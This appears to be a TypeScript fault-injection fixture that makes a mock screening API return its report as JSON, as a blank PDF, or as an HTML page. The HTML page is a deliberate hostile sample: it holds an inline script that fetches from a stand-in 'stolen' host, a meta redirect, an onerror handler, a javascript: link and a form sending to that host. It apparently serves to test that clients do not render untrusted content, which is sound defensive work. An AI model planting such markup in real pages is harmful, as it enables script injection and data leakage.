// Reports in other forms.
import type { Answer } from '../../answer.ts';
import { altering, type Fault } from '../../faults/fault.ts';

/** `GET /v1/screening/{id}/report`. */
const REPORT_PATH = /^\/v1\/screening\/[^/]+\/report$/;
/** One empty page. */
const PDF = [
  '%PDF-1.4',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
  'trailer << /Root 1 0 R >>',
  '%%EOF',
  '',
].join('\n');
/** Would run a script, load a picture and send a form, if anybody rendered it. */
const PAGE = `<!doctype html><html><head><title>Report</title>
<meta http-equiv="refresh" content="0;url=https://stolen.practice.invalid/">
<script>document.title = 'script ran'; fetch('https://stolen.practice.invalid/');</script></head>
<body onload="document.title = 'handler ran'"><img src="https://stolen.practice.invalid/p.png"
onerror="document.title = 'picture ran'"><a href="javascript:document.title='link ran'">Report</a>
<form action="https://stolen.practice.invalid/"><button autofocus>Send</button></form></body></html>
`;

/** In the order of the README. */
export const REPORT_FORMS: readonly Fault[] = [
  otherReport('name-report-json', 'application/json; charset=utf-8', {
    kind: 'json',
    value: { title: 'Report (fictional)', sections: ['decision'] },
  }),
  otherReport('name-report-pdf', 'application/pdf', { kind: 'text', text: PDF }),
  otherReport('name-report-script', 'text/html; charset=utf-8', { kind: 'text', text: PAGE }),
];

function otherReport(kind: string, contentType: string, body: Answer['body']): Fault {
  return altering(kind, (answer, path) =>
    answer.status === 200 && REPORT_PATH.test(path) ? { ...answer, contentType, body } : null,
  );
}
